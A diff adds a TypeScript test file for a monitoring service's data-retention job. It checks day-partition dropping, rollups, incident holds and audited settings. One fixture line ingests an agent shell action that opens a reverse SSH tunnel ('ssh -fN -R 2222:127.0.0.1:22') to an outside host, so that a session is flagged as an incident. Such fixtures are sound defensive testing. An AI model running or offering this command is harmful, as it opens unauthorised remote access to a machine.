@@ -1,0 +1,105 @@
+// Old readings are dropped by day on a real database: rolled up first, and never what an incident holds.
+
+import { mkdtemp, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import path from 'node:path'
+import pg from 'pg'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { RetentionView } from './protocol/retention.ts'
+import { startForTest, type TestServer } from './start-for-test.ts'
+import { type EmbeddedPostgres, startEmbeddedPostgres } from './store/embedded-postgres.ts'
+
+const dayMs = 86_400_000
+let folder: string
+let database: EmbeddedPostgres
+let server: TestServer
+let pool: pg.Pool
+beforeAll(async () => {
+  folder = await mkdtemp(path.join(tmpdir(), 'vigil-retention-'))
+  database = await startEmbeddedPostgres({ dataDir: folder })
+  server = await startForTest({ DATABASE_URL: database.connectionString })
+  pool = new pg.Pool({ connectionString: database.connectionString })
+}, 60_000)
+afterAll(async () => {
+  await pool.end()
+  await server.stop()
+  await database.stop()
+  await rm(folder, { recursive: true, force: true })
+})
+
+const now = Date.now()
+const today = now - (now % dayMs)
+const call = async (method: string, pathname: string, body?: object) =>
+  await server.api(pathname, {
+    method,
+    ...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
+  })
+
+async function reading(session: string, atMs: number): Promise<void> {
+  await pool.query(
+    `INSERT INTO session_sample (at, session, host, cpu_percent, memory_bytes, bytes_out, bytes_in, process_count, connection_count)
+     VALUES (to_timestamp($1 / 1000.0), $2, 'n1', 50, 1, 1, 1, 1, 1)`,
+    [atMs, session],
+  )
+}
+async function count(table: string, session: string): Promise<number> {
+  const { rows } = await pool.query(`SELECT count(*)::int AS n FROM ${table} WHERE session = $1`, [session])
+  return rows[0].n
+}
+
+async function makeDay(dayStartMs: number): Promise<void> {
+  const day = new Date(dayStartMs).toISOString().slice(0, 10)
+  const to = new Date(dayStartMs + dayMs).toISOString().slice(0, 10)
+  await pool.query(
+    `CREATE TABLE session_sample_${day.replaceAll('-', '')} PARTITION OF session_sample FOR VALUES FROM ('${day}Z') TO ('${to}Z')`,
+  )
+}
+
+async function runToItsEnd(): Promise<void> {
+  const started = (await (await call('POST', '/api/retention/run')).json()) as { id: string }
+  await expect
+    .poll(async () => ((await (await server.api(`/api/jobs/${started.id}`)).json()) as { state: string }).state)
+    .toBe('done')
+}
+
+describe('retention', () => {
+  it('drops days of readings that are too old, keeps their minutes, and keeps every reading of a session in an incident', async () => {
+    // given: readings of forty days ago, of one session in an incident and one in none; one of yesterday
+    const [old, yesterday] = [today - 40 * dayMs, today - dayMs]
+    await makeDay(old)
+    for (const session of ['ep-held', 'ep-free']) {
+      for (const atMs of [old + 1_000, old + 2_000, yesterday]) await reading(session, atMs)
+    }
+    // and one that came later than its day's table was gone
+    await reading('ep-free', today - 50 * dayMs)
+    const input = 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40'
+    const data = { call: 'c1', tool: 'shell', input }
+    await call('POST', '/api/ingest/events', { v: 1, kind: 'action.started', atMs: now, session: 'ep-held', data })
+    const view = async () => RetentionView.parse(await (await server.api('/api/retention')).json())
+    await expect.poll(async () => (await view()).holds.sessions, { timeout: 10_000 }).toBe(1)
+    expect(await view()).toMatchObject({ days: { readings: 30, minutes: 400 }, assumed: true })
+
+    // when
+    await runToItsEnd()
+
+    // then
+    expect(await count('session_sample', 'ep-held')).toBe(3)
+    expect(await count('session_sample', 'ep-free')).toBe(1)
+    for (const session of ['ep-held', 'ep-free'])
+      expect(await count('session_sample_minute', session)).toBeGreaterThan(0)
+    expect(await view()).toMatchObject({ lastRun: { daysDropped: 1, rowsHeld: 2 } })
+
+    // and again: nothing more, and what is held stays
+    await runToItsEnd()
+    expect(await count('session_sample', 'ep-held')).toBe(3)
+    expect((await view()).lastRun).toMatchObject({ daysDropped: 0, rowsHeld: 0 })
+  })
+
+  it('refuses days that make no sense, and writes in the audit who changed them', async () => {
+    expect((await call('PUT', '/api/retention', { readings: 0, minutes: 10 })).status).toBe(422)
+    expect((await call('PUT', '/api/retention', { readings: 30, minutes: 10 })).status).toBe(422)
+    expect((await call('PUT', '/api/retention', { readings: 7, minutes: 90 })).status).toBe(200)
+    const audit = (await (await server.api('/api/audit')).json()) as { entries: { change: string; subject: string }[] }
+    expect(JSON.stringify(audit)).toContain('readings 7 days, minutes 90 days')
+  })
+})
